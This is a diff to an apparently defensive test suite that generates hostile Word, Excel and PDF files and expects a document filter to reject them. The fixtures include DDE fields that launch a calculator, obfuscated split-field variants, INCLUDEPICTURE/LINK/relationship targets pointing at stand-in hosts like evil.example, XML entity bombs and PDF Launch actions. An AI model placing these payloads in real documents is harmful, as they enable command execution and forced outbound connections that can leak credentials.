@@ -41,6 +41,22 @@ _COMMANDS = {
     + _END
     + _END,
 }
+_QUOTE = _BEGIN + b"<w:r><w:instrText> QUOTE 68 68 69</w:instrText></w:r>" + _END
+_CODE = b"<w:r><w:instrText>%s</w:instrText></w:r>"
+_COMMANDS |= {
+    "that a field writes": _BEGIN + _QUOTE + _CODE % b" c calc" + _END,
+    "that a field ends": _BEGIN + _CODE % b"DDEA" + b'<w:fldSimple w:instr="QUOTE 85"/>' + _CODE % b"TO c" + _END,
+    "struck out": _BEGIN + b"<w:r><w:delInstrText>DDEAUTO c</w:delInstrText></w:r>" + _END,
+    "to fetch a picture": _BEGIN + _CODE % b' INCLUDEPICTURE "\\\\evil.example\\a.png" \\d ' + _END,
+    "to fetch a picture in pieces": _BEGIN + _CODE % b'INCLUDEPICTURE "\\' + _CODE % b'\\evil\\a.png"' + _END,
+    "to fetch a picture unclosed": _BEGIN + _CODE % b"INCLUDEPICTURE //evil.example/a.png",
+    "to fetch a picture far off": _BEGIN + _CODE % (b"INCLUDEPICTURE" + b" " * 70_000 + b"//evil/a.png") + _END,
+    "to fetch a picture that a field names": _BEGIN + _CODE % b'INCLUDEPICTURE "' + _QUOTE + _CODE % b'"' + _END,
+    "to fetch a text": b'<w:fldSimple w:instr="INCLUDETEXT file://evil.example/a.docx"/>',
+    "to link a sheet": rb'<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;file:///\\evil\a.xlsx&quot; R1C1"/>',
+    "to draw a picture": rb'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\evil.example\a.png"/>',
+}
+_DOCUMENT = _WORD.replace(b"w:hdr", b"w:document")
 _LINK = (
     b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
     b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
@@ -85,8 +101,16 @@ def _list_documents() -> Iterator[HostileFile]:
     yield refused("billion laughs in utf-16", FileKind.DOCX, Refusal.UNSAFE, **{"word__settings.xml": wide})
     yield refused("outside entity", FileKind.DOCX, Refusal.UNSAFE, **{"customXml__item1.xml": OUTSIDE})
     yield refused("outside entity in relations", FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": OUTSIDE})
-    relation = _RELATION % (b"oleObject", b"https://evil.example/a!")
-    yield refused("object elsewhere", FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": relation})
+    for kind in (b"oleObject", b"frame", b"subDocument", b"control", b"aFChunk"):
+        relation = _RELATION % (kind, b"https://evil.example/a!")
+        yield refused(f"{kind.decode()} elsewhere", FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": relation})
+    for target in (rb"\\evil\a.png", rb"file:///\\evil\a.png", b"file://evil/a.png", b"C:/a.png", b"ftp://evil/a.png"):
+        name = f"picture at {target.decode()}"
+        relation = _RELATION % (b"image", target)
+        yield refused(name, FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": relation})
+    relation = _RELATION % (b"mailMergeSource", rb"\\evil\a.csv")
+    yield refused("letters from elsewhere", FileKind.DOCX, Refusal.UNSAFE, **{"word___rels__a.rels": relation})
+    yield from _list_renamed()
     relation = _RELATION % (b"attachedTemplate", b"https://evil.example/a.dotm")
     yield refused("template elsewhere", FileKind.DOCX, Refusal.MACROS, **{"word___rels__a.rels": relation})
     for how, written in _respelt(relation, b"attachedTemplate").items():
@@ -98,6 +122,33 @@ def _list_documents() -> Iterator[HostileFile]:
         yield refused(f"command {name}", FileKind.DOCX, Refusal.UNSAFE, **{"word__header1.xml": _WORD % fields})
     yield refused("command of a link", FileKind.XLSX, Refusal.UNSAFE, **{"xl__externalLinks__externalLink1.xml": _LINK})
     yield HostileFile("300 MiB of zeros", FileKind.XLSX, Refusal.TOO_COMPLEX, _make_large_sheet)
+
+
+def _list_renamed() -> Iterator[HostileFile]:
+    """The same in parts of other names, which Office finds by their relations."""
+
+    def refused(name: str, main: str, content: bytes, refusal: Refusal = Refusal.UNSAFE) -> HostileFile:
+        parts = {main.replace("/", "__"): content}
+        return HostileFile(name, FileKind.DOCX, refusal, lambda: office("docx", main=main, **parts))
+
+    command = _DOCUMENT % _COMMANDS["of a simple field"]
+    yield refused("entities in a renamed document", "word/document.dat", LAUGHS)
+    yield refused("entities of a renamed picture", "word/media/a.svg", LAUGHS.replace(b"DOCTYPE x", b"DOCTYPE svg"))
+    yield refused("command in a renamed document", "word/document.dat", command)
+    yield refused("command in another folder", "main/document.xml", command)
+    yield refused("command in a document in utf-16", "a.bin", command.decode().encode("utf-16"))
+    yield refused(
+        "document in an encoding of its own", "a.bin", b'<?xml version="1.0" encoding="x-1"?><a/>', Refusal.DAMAGED
+    )
+    yield refused("another kind of document", "xl/workbook.xml", b"<workbook/>", Refusal.WRONG_TYPE)
+    renamed = {"xl__links__a.dat": _LINK}
+    yield HostileFile("link renamed", FileKind.XLSX, Refusal.UNSAFE, lambda: office("xlsx", **renamed))
+    nowhere = partial(office, "docx", main="word/none.xml")
+    yield HostileFile("no document", FileKind.DOCX, Refusal.WRONG_TYPE, nowhere)
+    twice = {
+        "_RELS__.rels": b'<Relationships><Relationship Type="http://x/officeDocument" Target="a.xml"/></Relationships>'
+    }
+    yield HostileFile("two lists of relations", FileKind.DOCX, Refusal.WRONG_TYPE, lambda: office("docx", **twice))
 
 
 def _list_embedded() -> Iterator[HostileFile]:
@@ -148,6 +199,8 @@ def _list_pdfs() -> Iterator[HostileFile]:
     yield refused("program attached", Refusal.ATTACHED, lambda: _attached("setup.exe", PROGRAM))
     yield refused("program as a picture", Refusal.ATTACHED, lambda: _attached("photo.png", PROGRAM))
     yield refused("program as a note", Refusal.ATTACHED, lambda: pdf(annotation))
+    for named in (b"/Subtype /RichMedia", b"/S /RichMediaExecute", b"/S /Launch", b"/S /ImportData"):
+        yield refused(f"action {named.decode()}", Refusal.SCRIPT, partial(pdf, b"/A << " + named + b" >>"))
     yield refused("1 GiB in a stream", Refusal.TOO_COMPLEX, lambda: _inflating(_bomb(1024)))
     yield refused("1 GiB under two filters", Refusal.TOO_COMPLEX, _make_layered)
     yield refused("1 GiB in 16 streams", Refusal.TOO_COMPLEX, lambda: _inflating(*[_bomb(64)] * 16))
